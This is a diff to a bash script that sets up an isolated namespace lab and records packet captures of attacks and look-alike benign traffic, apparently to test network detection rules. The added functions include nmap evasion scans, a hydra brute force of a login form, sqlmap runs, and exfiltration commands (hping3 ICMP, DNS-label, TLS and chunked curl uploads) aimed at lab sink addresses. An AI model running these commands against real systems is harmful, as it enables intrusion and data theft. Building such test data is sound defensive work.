@@ -3,7 +3,8 @@
 #
 # Run as root on a Debian/Ubuntu machine with:
 #   apt-get install -y tshark tcpdump nmap masscan nginx-light gobuster ffuf sqlmap \
-#       iodine dnsutils curl iproute2 dnsmasq-base netcat-openbsd ethtool iputils-ping python3
+#       iodine dnsutils curl iproute2 dnsmasq-base netcat-openbsd ethtool iputils-ping python3 \
+#       hping3 hydra rsync openssh-server openssh-client openssl wget sntp
 #
 # Usage:
 #   record.sh all              set up, record every capture, tear down
@@ -16,14 +17,22 @@
 #
 #   rp-sw   a bridge (br0) joining the hosts below, nothing else
 #   rp-att  10.66.0.10 (+ .11, .12 as extra DNS clients)   attacker / internal client
-#   rp-tgt  10.66.0.20   internal server: nginx :80, nc :22 :8080, udp :161,
-#                        upload sink :8000 (only for exfil_internal),
+#   rp-tgt  10.66.0.20   internal server: nginx :80 (site, /login: a POST gets a failure page, /health,
+#                        a wiki of 150 pages, vhosts *.corp.example: 404 but for five),
+#                        sshd :22 (rsync backups), nc :8080, udp :161,
+#                        upload sink :8000 (only for exfil_internal), nginx :4444 (only
+#                        for http_odd_port),
 #                        10.77.0.7/32 on lo; the router for 10.77.0.0/24, which it drops
 #                        (forwarding is off), so the sweep goes mostly unanswered
 #   rp-dns  10.66.0.53   dnsmasq (authoritative for a few example names)
 #           10.66.0.54   iodined for t.exfil-test.example (tunnel net 10.99.0.0/27)
 #   rp-ext  "external": 203.0.113.50 upload sink :80, 203.0.113.60 nginx (big file),
-#           198.51.100.10 / 198.51.100.20 / 203.0.113.80 nginx (the browsed web sites)
+#           198.51.100.10 / 198.51.100.20 / 203.0.113.80 nginx (the browsed web sites,
+#           :80 and TLS :443), 203.0.113.70 / .71 SaaS (TLS :443, uploads and downloads),
+#           203.0.113.90 TLS upload sink :443, 203.0.113.95 upload sink :80,
+#           203.0.113.99 drip sink :443 (nc), 203.0.113.77 answers ICMP echo only,
+#           203.0.113.123 NTP server
+#   dnsmasq also answers 60 CDN-style registered domains with any name (benign_cdn_dns)
 #
 # Offloads (TSO/GSO/GRO, tx checksums) are switched off so the captures hold
 # wire-sized segments with correct checksums, as a capture from a real NIC would.
@@ -73,7 +82,8 @@ setup_net() {
 	inns rp-tgt sysctl -qw net.ipv4.icmp_ratelimit=0
 	inns rp-dns ip addr add 10.66.0.53/24 dev eth0
 	inns rp-dns ip addr add 10.66.0.54/24 dev eth0
-	for a in 203.0.113.50 203.0.113.60 203.0.113.80 198.51.100.10 198.51.100.20; do
+	for a in 203.0.113.50 203.0.113.60 203.0.113.80 198.51.100.10 198.51.100.20 \
+		203.0.113.70 203.0.113.71 203.0.113.77 203.0.113.90 203.0.113.95 203.0.113.99 203.0.113.123; do
 		inns rp-ext ip addr add "$a/24" dev eth0
 	done
 	# One flat segment: the "external" ranges are on-link for the internal hosts and
@@ -83,6 +93,8 @@ setup_net() {
 		inns "$ns" ip route add 198.51.100.0/24 dev eth0
 	done
 	inns rp-ext ip route add 10.66.0.0/24 dev eth0
+	# mDNS and LLMNR multicast stay on the segment.
+	inns rp-att ip route add 224.0.0.0/4 dev eth0
 	# The sweep's targets: routed to the target, which does not forward.
 	inns rp-att ip route add 10.77.0.0/24 via 10.66.0.20
 	# Name resolution for processes run in rp-att (ip netns exec bind-mounts this file).
@@ -121,10 +133,66 @@ write_content() {
 	for n in 1 2 3; do printf '<html><body><h1>Article %s</h1><p>News.</p></body></html>\n' "$n" >"$RUN/www-b/articles/$n.html"; done
 	head -c 30000 /dev/urandom >"$RUN/www-c/lib/jquery.min.js"
 	head -c 12000 /dev/urandom >"$RUN/www-c/lib/fonts.woff2"
+	# A login form (a POST gets a 200 failure page, see start_servers) and /metrics for the monitor.
+	mkdir -p "$RUN"/{www-vhost,www-saas/files,www-tgt/wiki,backup-src,ssh,tls}
+	printf '<html><body><form method="post" action="/login"><input name="username"><input name="password" type="password"><button>Sign in</button></form></body></html>\n' >"$RUN/www-tgt/login.html"
+	printf '# HELP up 1 if the service is up\n# TYPE up gauge\nup 1\nhttp_requests_total{code="200"} 81234\nprocess_resident_memory_bytes 5.1e+07\n' >"$RUN/www-tgt/metrics"
+	printf '<html><body><h1>corp vhost</h1></body></html>\n' >"$RUN/www-vhost/index.html"
+	write_wiki "$RUN/www-tgt/wiki"
+	# SaaS downloads.
+	head -c 2500000 /dev/urandom >"$RUN/www-saas/files/q3-report.pdf"
+	head -c 1800000 /dev/urandom >"$RUN/www-saas/files/team-photo.jpg"
+	head -c 3200000 /dev/urandom >"$RUN/www-saas/files/slides.pptx"
+	printf '<!doctype html><html><body><h1>Drive</h1></body></html>\n' >"$RUN/www-saas/index.html"
+	# A self-signed certificate for every TLS name.
+	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj '/CN=reconpcap test' \
+		-addext 'subjectAltName=DNS:www.example.com,DNS:news.example.org,DNS:cdn.example.net,DNS:drive.saas-box.example,DNS:docs.saas-office.example,DNS:sync.cloud-store.example' \
+		-keyout "$RUN/tls/key.pem" -out "$RUN/tls/cert.pem" 2>/dev/null
+	# sshd host key and the backup client's key.
+	ssh-keygen -q -t ed25519 -N '' -f "$RUN/ssh/host_ed25519" <<<y >/dev/null
+	ssh-keygen -q -t ed25519 -N '' -f "$RUN/ssh/client_ed25519" <<<y >/dev/null
+	cp "$RUN/ssh/client_ed25519.pub" "$RUN/ssh/authorized_keys"
+	# The backup: a project tree of 24 MB in 60 files (random: rsync cannot shrink it).
+	local i
+	for i in $(seq 1 60); do
+		head -c $((200000 + (i * 7919 % 600000))) /dev/urandom >"$RUN/backup-src/file-$i.dat"
+	done
 	# Upload payloads (random, so nothing compresses them).
 	head -c 4000000 /dev/urandom >"$RUN/customers.tar.gz"
 	head -c 11500000 /dev/urandom >"$RUN/db_dump.sql.gz"
 	head -c 3000000 /dev/urandom >"$RUN/staging.zip"
+	head -c 1500000 /dev/urandom >"$RUN/holiday-photos.zip"
+	head -c 1100000 /dev/urandom >"$RUN/budget-2025.xlsx"
+	head -c 3600000 /dev/urandom >"$RUN/demo-video.mp4"
+	head -c 2200000 /dev/urandom >"$RUN/contract-scan.pdf"
+	head -c 15000000 /dev/urandom >"$RUN/hr_records.7z"
+	head -c 4500000 /dev/urandom >"$RUN/split-src.bin"
+	rm -rf "$RUN/split" && mkdir -p "$RUN/split"
+	split -b 15000 -d -a 3 "$RUN/split-src.bin" "$RUN/split/part-"
+	head -c 1000000 /dev/urandom >"$RUN/icmp-payload.bin"
+	head -c 120000 /dev/urandom >"$RUN/dns-payload.bin"
+}
+
+write_wiki() { # dir: 10 sections of 14 pages each, linked both ways, plus an index
+	local dir=$1 sec page links
+	mkdir -p "$dir"
+	links=""
+	for sec in $(seq 1 10); do
+		# Half the section links lack the trailing slash: nginx answers 301 first.
+		if ((sec % 2)); then links+="<li><a href=\"section-$sec\">Section $sec</a></li>"; else
+			links+="<li><a href=\"section-$sec/\">Section $sec</a></li>"; fi
+	done
+	printf '<html><head><title>Wiki</title></head><body><h1>Team wiki</h1><ul>%s</ul></body></html>\n' "$links" >"$dir/index.html"
+	for sec in $(seq 1 10); do
+		mkdir -p "$dir/section-$sec"
+		links=""
+		for page in $(seq 1 14); do links+="<li><a href=\"page-$page.html\">Page $sec.$page</a></li>"; done
+		printf '<html><body><h1>Section %s</h1><a href="../">Home</a><ul>%s</ul></body></html>\n' "$sec" "$links" >"$dir/section-$sec/index.html"
+		for page in $(seq 1 14); do
+			printf '<html><body><h1>Page %s.%s</h1><p>%s</p><a href="./">Section</a> <a href="page-%s.html">Next</a> <a href="../section-%s/">See also</a></body></html>\n' \
+				"$sec" "$page" "$(head -c 1500 /dev/zero | tr '\0' 'w')" "$((page % 14 + 1))" "$((sec % 10 + 1))" >"$dir/section-$sec/page-$page.html"
+		done
+	done
 }
 
 nginx_conf() { # name, server blocks
@@ -148,17 +216,43 @@ nginx_conf() { # name, server blocks
 
 start_servers() {
 	log "servers"
-	nginx_conf tgt "    server { listen 10.66.0.20:80; server_name _; root $RUN/www-tgt; index index.html; }"
+	# The IP (and any unknown name) reaches the site; *.corp.example names are virtual
+	# hosts, 404 but for the five that exist.
+	nginx_conf tgt "
+	    server { listen 10.66.0.20:80 default_server; server_name _; root $RUN/www-tgt; index index.html;
+	        location = /health { default_type application/json; return 200 '{\"status\":\"ok\"}\\n'; }
+	        location = /metrics { default_type text/plain; }
+	        location = /login {
+	            default_type text/html;
+	            if (\$request_method = POST) { return 200 '<html><body><h2>Sign in</h2><p class=\"error\">Invalid username or password.</p></body></html>\\n'; }
+	            try_files /login.html =404;
+	        }
+	    }
+	    server { listen 10.66.0.20:80; server_name ~^.+\\.corp\\.example\$; return 404; }
+	    server { listen 10.66.0.20:80; server_name intranet.corp.example dev.corp.example git.corp.example
+	        mail.corp.example vpn.corp.example; root $RUN/www-vhost; }"
 	nginx_conf ext "
 	    server { listen 203.0.113.60:80; server_name files.example.net; root $RUN/www-files; }
 	    server { listen 198.51.100.10:80; server_name www.example.com; root $RUN/www-a; }
 	    server { listen 198.51.100.20:80; server_name news.example.org; root $RUN/www-b; }
-	    server { listen 203.0.113.80:80; server_name cdn.example.net; root $RUN/www-c; }"
+	    server { listen 203.0.113.80:80; server_name cdn.example.net; root $RUN/www-c; }
+	    ssl_certificate $RUN/tls/cert.pem;
+	    ssl_certificate_key $RUN/tls/key.pem;
+	    server { listen 198.51.100.10:443 ssl; server_name www.example.com; root $RUN/www-a; }
+	    server { listen 198.51.100.20:443 ssl; server_name news.example.org; root $RUN/www-b; }
+	    server { listen 203.0.113.80:443 ssl; server_name cdn.example.net; root $RUN/www-c; }
+	    # SaaS and the TLS exfiltration sink: downloads from files/, uploads proxied to
+	    # the sink on loopback.
+	    server { listen 203.0.113.70:443 ssl; listen 203.0.113.71:443 ssl; listen 203.0.113.90:443 ssl;
+	        server_name _; root $RUN/www-saas; client_max_body_size 0;
+	        location /upload/ { proxy_pass http://127.0.0.1:8091; proxy_request_buffering off; } }"
 	inns rp-tgt nginx -c "$RUN/nginx-tgt.conf"
 	inns rp-ext nginx -c "$RUN/nginx-ext.conf"
-	# Open TCP ports 22 and 8080 and UDP 161 on the target (nc answers nothing).
-	ip netns exec rp-tgt nc -dlk 10.66.0.20 22 >/dev/null 2>&1 &
-	echo $! >"$RUN/nc22.pid"
+	# sshd on 22 (the rsync backups); open TCP port 8080 and UDP 161 (nc answers nothing).
+	mkdir -p /run/sshd
+	inns rp-tgt /usr/sbin/sshd -f /dev/null -o ListenAddress=10.66.0.20 -o "HostKey=$RUN/ssh/host_ed25519" \
+		-o "PidFile=$RUN/sshd.pid" -o PermitRootLogin=prohibit-password -o UsePAM=no -o StrictModes=no \
+		-o "AuthorizedKeysFile=$RUN/ssh/authorized_keys" -o PasswordAuthentication=no
 	ip netns exec rp-tgt nc -dlk 10.66.0.20 8080 >/dev/null 2>&1 &
 	echo $! >"$RUN/nc8080.pid"
 	ip netns exec rp-tgt nc -dulk 10.66.0.20 161 >/dev/null 2>&1 &
@@ -166,6 +260,20 @@ start_servers() {
 	# The external upload sink.
 	ip netns exec rp-ext python3 "$HERE/upload_receiver.py" 203.0.113.50 80 >/dev/null 2>"$RUN/logs/sink-ext.log" &
 	echo $! >"$RUN/sink-ext.pid"
+	ip netns exec rp-ext python3 "$HERE/upload_receiver.py" 127.0.0.1 8091 >/dev/null 2>"$RUN/logs/sink-tls.log" &
+	echo $! >"$RUN/sink-tls.pid"
+	ip netns exec rp-ext python3 "$HERE/upload_receiver.py" 203.0.113.95 80 >/dev/null 2>"$RUN/logs/sink-split.log" &
+	echo $! >"$RUN/sink-split.pid"
+	ip netns exec rp-ext nc -dlk 203.0.113.99 443 >/dev/null 2>&1 &
+	echo $! >"$RUN/sink-drip.pid"
+	ip netns exec rp-ext python3 "$HERE/udp_noise.py" ntp-server 203.0.113.123 >/dev/null 2>"$RUN/logs/ntp.log" &
+	echo $! >"$RUN/ntp.pid"
+	# Every name under the CDN-style domains answers, one address per domain.
+	local cdn=() d n=0
+	for d in $(python3 "$HERE/cdn_names.py" --domains); do
+		n=$((n + 1))
+		cdn+=(--address="/$d/203.0.113.$((100 + n % 50))" --address="/$d/2001:db8:cd::$n")
+	done
 	# Authoritative-only DNS for a few example names; anything else under these
 	# domains is NXDOMAIN.
 	inns rp-dns dnsmasq --conf-file=/dev/null --no-resolv --no-hosts --no-poll \
@@ -184,16 +292,22 @@ start_servers() {
 		--host-record=fileserver.corp.example,10.66.0.21 \
 		--mx-host=example.com,mail.example.com,10 \
 		--mx-host=example.org,mx.example.org,10 \
+		--host-record=drive.saas-box.example,203.0.113.70 \
+		--host-record=docs.saas-office.example,203.0.113.71 \
+		--host-record=sync.cloud-store.example,203.0.113.90 \
+		--host-record=time.example.net,203.0.113.123 \
+		--local=/saas-box.example/saas-office.example/cloud-store.example/ \
+		"${cdn[@]}" \
 		--txt-record=example.com,"v=spf1 mx -all"
 	sleep 1
 }
 
 stop_servers() {
-	for f in "$RUN"/nc22.pid "$RUN"/nc8080.pid "$RUN"/nc161.pid "$RUN"/sink-ext.pid "$RUN"/sink-int.pid "$RUN"/dnsmasq.pid "$RUN"/iodined.pid "$RUN"/iodine.pid "$RUN"/tunnc.pid; do
+	for f in "$RUN"/sshd.pid "$RUN"/sink-tls.pid "$RUN"/sink-split.pid "$RUN"/sink-drip.pid "$RUN"/ntp.pid "$RUN"/nc8080.pid "$RUN"/nc161.pid "$RUN"/sink-ext.pid "$RUN"/sink-int.pid "$RUN"/dnsmasq.pid "$RUN"/iodined.pid "$RUN"/iodine.pid "$RUN"/tunnc.pid; do
 		[ -f "$f" ] && kill "$(cat "$f")" 2>/dev/null || true
 		rm -f "$f"
 	done
-	for n in tgt ext; do
+	for n in tgt ext odd; do
 		[ -f "$RUN/nginx-$n.pid" ] && kill -QUIT "$(cat "$RUN/nginx-$n.pid")" 2>/dev/null || true
 	done
 	sleep 1
@@ -256,6 +370,31 @@ scan_udp() {
 	cap_start rp-att scan_udp.pcap 256
 	inns rp-att nmap -sU -T4 -n --top-ports 60 --max-retries 1 10.66.0.20 -oN "$RUN/logs/scan_udp.nmap"
 	cap_stop scan_udp.pcap
+}
+scan_frag() {
+	# -f: every probe is cut into 8-byte IP fragments, so the TCP header is split
+	# across fragments and a decoder that does not reassemble sees no SYN.
+	cap_start rp-att scan_frag.pcap 128
+	inns rp-att nmap -sS -f -T4 -n --top-ports 200 10.66.0.20 -oN "$RUN/logs/scan_frag.nmap"
+	cap_stop scan_frag.pcap
+}
+scan_decoy() {
+	# The decoys exist nowhere: the target's ARP requests for them go unanswered,
+	# so only the real scanner (10.66.0.10, same MAC as the decoys) gets answers.
+	cap_start rp-att scan_decoy.pcap 128
+	inns rp-att nmap -sS -T4 -n --top-ports 200 -D 10.66.0.31,10.66.0.32,10.66.0.33,ME,10.66.0.34 \
+		10.66.0.20 -oN "$RUN/logs/scan_decoy.nmap"
+	cap_stop scan_decoy.pcap
+}
+scan_ack() {
+	cap_start rp-att scan_ack.pcap 128
+	inns rp-att nmap -sA -T4 -n --top-ports 200 10.66.0.20 -oN "$RUN/logs/scan_ack.nmap"
+	cap_stop scan_ack.pcap
+}
+scan_window() {
+	cap_start rp-att scan_window.pcap 128
+	inns rp-att nmap -sW -T4 -n --top-ports 200 10.66.0.20 -oN "$RUN/logs/scan_window.nmap"
+	cap_stop scan_window.pcap
 }
 sweep_syn() {
 	# masscan writes its own frames, so it needs the gateway's MAC (the target's).
@@ -433,12 +572,199 @@ benign_dns() {
 	log "benign_dns.pcapng: $(capinfos -c -M "$OUT/benign_dns.pcapng" | awk '/Number of packets/{print $NF}') packets"
 }
 
+# ---------------------------------------------------------------- issue 10: evasions
+
+scan_slow() {
+	# One probe every 4 s: 41 ports take close to 3 minutes.
+	# Only the target's traffic (and ARP): the slow scan may be recorded alongside others.
+	cap_start rp-att scan_slow.pcap 128 host 10.66.0.20
+	inns rp-att nmap -sS -n --scan-delay 4s -p 20-60 10.66.0.20 -oN "$RUN/logs/scan_slow.nmap"
+	cap_stop scan_slow.pcap
+}
+scan_srcport() {
+	# Every probe from source port 53, as if DNS answers.
+	cap_start rp-att scan_srcport.pcap 128
+	inns rp-att nmap -sS -T4 -n -g 53 --top-ports 200 10.66.0.20 -oN "$RUN/logs/scan_srcport.nmap"
+	cap_stop scan_srcport.pcap
+}
+scan_version() {
+	cap_start rp-att scan_version.pcap 256
+	inns rp-att nmap -sV -n -p 22,80,8080 10.66.0.20 -oN "$RUN/logs/scan_version.nmap"
+	cap_stop scan_version.pcap
+}
+http_bruteforce() {
+	# hydra guesses admin's password on the login form; every POST gets the 200 failure
+	# page (hydra refuses a form answering 401: it takes that for HTTP auth).
+	cap_start rp-att http_bruteforce.pcap 0 tcp port 80
+	inns rp-att hydra -l admin -P "$HERE/passwords.txt" -t 4 -I -o "$RUN/logs/hydra.txt" 10.66.0.20 \
+		http-post-form '/login:username=^USER^&password=^PASS^:F=Invalid username or password' \
+		>"$RUN/logs/hydra.log" 2>&1 || true
+	cap_stop http_bruteforce.pcap
+}
+http_sqlmap_random_agent() {
+	# The same sqlmap run as http_sqlmap, but each request carries a browser user agent.
+	rm -rf "$RUN/sqlmap"
+	cap_start rp-att http_sqlmap_random_agent.pcap 0 tcp port 80
+	inns rp-att timeout 180 sqlmap -u 'http://10.66.0.20/item.php?id=1' --batch --random-agent --level 1 --risk 1 \
+		--flush-session --disable-coloring --output-dir="$RUN/sqlmap" \
+		>"$RUN/logs/sqlmap_random_agent.txt" 2>&1 || true
+	cap_stop http_sqlmap_random_agent.pcap
+}
+http_vhost_fuzz() {
+	# One path, 165 Host values: 160 answer 404 from the catch-all, 5 exist.
+	cap_start rp-att http_vhost_fuzz.pcap 0 tcp port 80
+	inns rp-att ffuf -u http://10.66.0.20/ -H 'Host: FUZZ.corp.example' -w "$HERE/vhosts.txt" -t 10 -s \
+		-o "$RUN/logs/ffuf_vhost.json" >/dev/null || true
+	cap_stop http_vhost_fuzz.pcap
+}
+http_lowrate_browser() {
+	# gobuster one thread at a time, 300 ms apart, with a Firefox user agent.
+	cap_start rp-att http_lowrate_browser.pcap 0 tcp port 80
+	inns rp-att gobuster dir -u http://10.66.0.20/ -w "$HERE/wordlist.txt" -t 1 --delay 300ms -q --no-error \
+		-a "$BROWSER_UA" -o "$RUN/logs/gobuster_lowrate.txt" >/dev/null || true
+	cap_stop http_lowrate_browser.pcap
+}
+http_odd_port() {
+	# The same site served on 4444, which no tool dissects as HTTP by port.
+	nginx_conf odd "    server { listen 10.66.0.20:4444; server_name _; root $RUN/www-tgt; index index.html; }"
+	inns rp-tgt nginx -c "$RUN/nginx-odd.conf"
+	sleep 0.5
+	cap_start rp-att http_odd_port.pcap 0 tcp port 4444
+	inns rp-att gobuster dir -u http://10.66.0.20:4444/ -w "$HERE/wordlist.txt" -t 10 -q --no-error \
+		-o "$RUN/logs/gobuster_odd.txt" >/dev/null || true
+	cap_stop http_odd_port.pcap
+	kill -QUIT "$(cat "$RUN/nginx-odd.pid")" 2>/dev/null || true
+}
+exfil_icmp() {
+	# hping3 sends the file 1000 bytes at a time in echo requests; the host echoes them.
+	cap_start rp-att exfil_icmp.pcap 0 host 203.0.113.77
+	inns rp-att hping3 -q -I eth0 -1 -E "$RUN/icmp-payload.bin" -d 1000 -c 1000 -i u10000 203.0.113.77 \
+		>"$RUN/logs/hping3.log" 2>&1 || true
+	cap_stop exfil_icmp.pcap
+}
+exfil_dns_a() {
+	# 120 kB in hex labels of plain A queries to the resolver (NXDOMAIN for each).
+	cap_start rp-att exfil_dns_a.pcap 0 udp port 53
+	inns rp-att python3 "$HERE/dns_exfil_a.py" "$RUN/dns-payload.bin" 10.66.0.10 10.66.0.53 x.exfil-test.example 30
+	cap_stop exfil_dns_a.pcap
+}
+exfil_tls() {
+	cap_start rp-att exfil_tls.pcap 96 host 203.0.113.90
+	inns rp-att curl -sS -k -o /dev/null -T "$RUN/hr_records.7z" https://sync.cloud-store.example/upload/hr_records.7z
+	cap_stop exfil_tls.pcap
+}
+exfil_split() {
+	# 300 POSTs of 15 kB, each its own connection, a little apart.
+	cap_start rp-att exfil_split.pcap 96 host 203.0.113.95
+	local f
+	for f in "$RUN"/split/part-*; do
+		inns rp-att curl -sS -o /dev/null -X POST --data-binary @"$f" -H 'Content-Type: application/octet-stream' \
+			"http://203.0.113.95/api/v1/telemetry?chunk=${f##*-}"
+		sleep 0.05
+	done
+	cap_stop exfil_split.pcap
+}
+exfil_drip() {
+	# 1 kB a second for 3 minutes over one connection to port 443 (not TLS).
+	cap_start rp-att exfil_drip.pcap 96 host 203.0.113.99
+	inns rp-att python3 "$HERE/drip.py" 10.66.0.10 203.0.113.99 443 1024 1 180
+	cap_stop exfil_drip.pcap
+}
+
+# ---------------------------------------------------------------- issue 10: ordinary traffic that fools naive rules
+
+benign_cdn_dns() {
+	# dig batches of 40 lookups (A and AAAA, as a browser does), a second or two apart.
+	python3 "$HERE/cdn_names.py" | split -l 40 -d -a 3 - "$RUN/cdn-batch-"
+	cap_start rp-att benign_cdn_dns.pcap 0 udp port 53
+	local b
+	for b in "$RUN"/cdn-batch-*; do
+		inns rp-att dig +tries=1 +time=2 -b 10.66.0.10 @10.66.0.53 -f "$b" >/dev/null || true
+		sleep 1.5
+	done
+	cap_stop benign_cdn_dns.pcap
+	rm -f "$RUN"/cdn-batch-*
+}
+benign_backup_rsync() {
+	rm -rf "$RUN/backup-dst"
+	cap_start rp-att benign_backup_rsync.pcap 96 host 10.66.0.20
+	inns rp-att rsync -a -e "ssh -i $RUN/ssh/client_ed25519 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR" \
+		"$RUN/backup-src/" root@10.66.0.20:"$RUN/backup-dst/"
+	cap_stop benign_backup_rsync.pcap
+}
+benign_saas_upload() {
+	# A user on two SaaS sites: pages and downloads, and five uploads of 1.1-3.6 MB.
+	cap_start rp-att benign_saas_upload.pcap 128 host 203.0.113.70 or host 203.0.113.71 or port 53
+	saas() { inns rp-att curl -sS -k -A "$BROWSER_UA" "$@" >/dev/null; }
+	saas https://drive.saas-box.example/ https://drive.saas-box.example/files/q3-report.pdf
+	sleep 2
+	saas -T "$RUN/holiday-photos.zip" https://drive.saas-box.example/upload/holiday-photos.zip
+	sleep 3
+	saas https://docs.saas-office.example/ https://docs.saas-office.example/files/slides.pptx
+	sleep 2
+	saas -T "$RUN/budget-2025.xlsx" https://docs.saas-office.example/upload/budget-2025.xlsx
+	sleep 4
+	saas -T "$RUN/demo-video.mp4" https://drive.saas-box.example/upload/demo-video.mp4
+	sleep 2
+	saas https://drive.saas-box.example/files/team-photo.jpg
+	sleep 3
+	saas -T "$RUN/contract-scan.pdf" https://docs.saas-office.example/upload/contract-scan.pdf
+	sleep 2
+	saas https://docs.saas-office.example/files/q3-report.pdf
+	cap_stop benign_saas_upload.pcap
+}
+benign_healthcheck() {
+	# A monitor: GET /health every 0.5-1 s for 150 s, /metrics every tenth poll.
+	cap_start rp-att benign_healthcheck.pcap 0 tcp port 80
+	local i=0 end=$((SECONDS + 150))
+	while ((SECONDS < end)); do
+		i=$((i + 1))
+		inns rp-att curl -sS -o /dev/null http://10.66.0.20/health
+		((i % 10)) || inns rp-att curl -sS -o /dev/null http://10.66.0.20/metrics
+		sleep "0.$((5 + RANDOM % 5))"
+	done
+	cap_stop benign_healthcheck.pcap
+}
+benign_crawler() {
+	# wget mirrors the wiki, 3 levels deep (index, 10 sections, 140 pages; 5 sections via 301).
+	rm -rf "$RUN/crawl"
+	cap_start rp-att benign_crawler.pcap 0 tcp port 80
+	inns rp-att wget -q -r -l 3 --no-parent -P "$RUN/crawl" http://10.66.0.20/wiki/ || true
+	cap_stop benign_crawler.pcap
+}
+benign_udp_noise() {
+	# 90 s of NTP polls (sntp once, then python clients), mDNS and LLMNR from three hosts.
+	cap_start rp-att benign_udp_noise.pcap 0 udp port 123 or udp port 5353 or udp port 5355
+	inns rp-att sntp -t 2 203.0.113.123 >/dev/null 2>&1 || true
+	inns rp-att python3 "$HERE/udp_noise.py" clients 90 10.66.0.10 10.66.0.11 10.66.0.12
+	cap_stop benign_udp_noise.pcap
+}
+benign_tls_browse() {
+	# The three sites of benign_browse over TLS (names through dnsmasq).
+	cap_start rp-att benign_tls_browse.pcap 0 port 443 or port 53
+	tls_get() { inns rp-att curl -sS -k -A "$BROWSER_UA" "$@" >/dev/null; }
+	tls_get https://www.example.com/ https://www.example.com/style.css https://www.example.com/app.js \
+		https://www.example.com/img/logo.png https://www.example.com/img/hero.jpg https://www.example.com/favicon.ico
+	tls_get https://cdn.example.net/lib/jquery.min.js https://cdn.example.net/lib/fonts.woff2
+	sleep 2
+	tls_get https://news.example.org/ https://news.example.org/style.css https://news.example.org/app.js \
+		https://news.example.org/articles/1.html https://news.example.org/articles/2.html
+	sleep 1.5
+	tls_get https://www.example.com/about.html https://www.example.com/contact.html
+	cap_stop benign_tls_browse.pcap
+}
+
 ALL=(scan_syn scan_connect scan_fin scan_xmas scan_null scan_udp sweep_syn
+	scan_frag scan_decoy scan_ack scan_window
+	http_bruteforce http_sqlmap_random_agent exfil_icmp exfil_dns_a
+	benign_cdn_dns benign_backup_rsync benign_saas_upload benign_healthcheck benign_crawler
+	exfil_tls exfil_split scan_slow scan_srcport scan_version
+	http_vhost_fuzz http_lowrate_browser http_odd_port benign_udp_noise benign_tls_browse exfil_drip
 	http_gobuster http_ffuf http_sqlmap http_injection_ua
 	exfil_medium exfil_high exfil_internal download_large dns_tunnel dns_tunnel_b32 benign_browse benign_dns)
 
 [ "$(id -u)" = 0 ] || { echo "record.sh: run as root" >&2; exit 2; }
-[ $# -gt 0 ] || { sed -n '2,16p' "$0" >&2; exit 2; }
+[ $# -gt 0 ] || { sed -n '2,17p' "$0" >&2; exit 2; }
 for cmd in "$@"; do
 	case $cmd in
 	setup) mkdir -p "$RUN/logs"; write_content; setup_net; start_servers ;;
